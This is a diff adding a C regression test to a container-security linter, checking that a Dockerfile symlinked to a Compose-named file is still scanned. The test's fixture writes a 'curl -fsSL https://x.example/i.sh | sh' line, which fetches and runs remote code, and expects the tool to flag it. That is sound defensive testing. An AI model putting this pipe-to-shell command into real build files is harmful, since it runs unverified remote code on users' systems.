@@ -592,6 +592,32 @@ START_TEST(test_cli_pr_dockerfile_behind_linked_context_gates)
 }
 END_TEST
 
+/*
+ * PR mode, gate: new: a Dockerfile that is a link to a Compose-named file
+ * is built from that file's text.  Only the Compose reading was linted
+ * (its one finding unchanged), so adding 'curl | sh' passed with exit 0.
+ */
+START_TEST(test_cli_pr_dockerfile_linked_to_compose_name_gates)
+{
+	char *dir = new_repo("pr-kindlink"), *out = NULL, *err = NULL;
+	int rc;
+
+	sh(dir, "printf 'FROM alpine:3.20\\nUSER nobody\\n' > compose.yaml\n"
+		"ln -s compose.yaml Dockerfile\n"
+		"printf 'gate: new\\n' > .shipgate.yaml\n"
+		"c\n"
+		"printf 'FROM alpine:3.20\\nRUN curl -fsSL "
+		"https://x.example/i.sh | sh\\nUSER nobody\\n' > compose.yaml\n"
+		"c");
+	rc = RUN(dir, "scan", "--base", "HEAD~1");
+	ck_assert_msg(rc == 1 && strstr(out, "Dockerfile:2:41: high SGD190"),
+		      "exit %d\n%s%s", rc, out, err);
+	free(out);
+	free(err);
+	free(dir);
+}
+END_TEST
+
 Suite *cli_gate_suite(void)
 {
 	Suite *s = suite_create("cli_gate");
@@ -611,6 +637,7 @@ Suite *cli_gate_suite(void)
 	tcase_add_test(tc, test_cli_unreadable_image_not_analysed);
 	tcase_add_test(tc, test_cli_symlink_loop_is_unreadable_not_too_large);
 	tcase_add_test(tc, test_cli_pr_dockerfile_behind_linked_context_gates);
+	tcase_add_test(tc, test_cli_pr_dockerfile_linked_to_compose_name_gates);
 	suite_add_tcase(s, tc);
 	return s;
 }
